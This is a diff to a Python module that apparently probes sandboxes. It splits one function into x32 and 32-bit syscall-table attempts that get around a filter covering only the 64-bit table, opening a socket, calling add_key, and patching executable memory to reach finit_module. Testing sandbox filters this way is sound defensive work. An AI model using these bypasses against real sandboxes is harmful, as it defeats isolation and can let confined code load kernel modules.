@@ -128,10 +128,25 @@ def personality(target: dict[str, Any]) -> dict[str, Any]:
     return tries.told()
 
 
-def other_tables(target: dict[str, Any]) -> dict[str, Any]:
-    """Calls the kernel by its 32-bit and x32 tables, past a filter of the 64-bit one.
+def x32_table(target: dict[str, Any]) -> dict[str, Any]:
+    """Calls the kernel by its x32 table, past a filter of the 64-bit one.
 
     where: x86_64
+    ends: crashed
+    real: no
+    """
+    tries = Tries()
+    tries("an x32 socket", lambda: libc.syscall(ctypes.c_long(0x40000000 | 41), 2, 1, 0) >= 0)
+    tries("an x32 key", lambda: libc.syscall(ctypes.c_long(0x40000000 | 248), 1, 0, 0) >= 0)  # add_key
+    return tries.told()
+
+
+def old_table(target: dict[str, Any]) -> dict[str, Any]:
+    """Calls the kernel by its 32-bit table, past a filter of the 64-bit one.
+
+    where: x86_64
+    ends: crashed
+    real: ok
     """
     tries = Tries()
     pages = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
@@ -144,7 +159,6 @@ def other_tables(target: dict[str, Any]) -> dict[str, Any]:
     pages.seek(0)
     pages.write(code.replace((359).to_bytes(4, "little"), (350).to_bytes(4, "little")))  # finit_module
     tries("a 32-bit module", lambda: old() not in (-1, -38))
-    tries("an x32 socket", lambda: libc.syscall(ctypes.c_long(0x40000000 | 41), 2, 1, 0) >= 0)
     return tries.told()
 
 
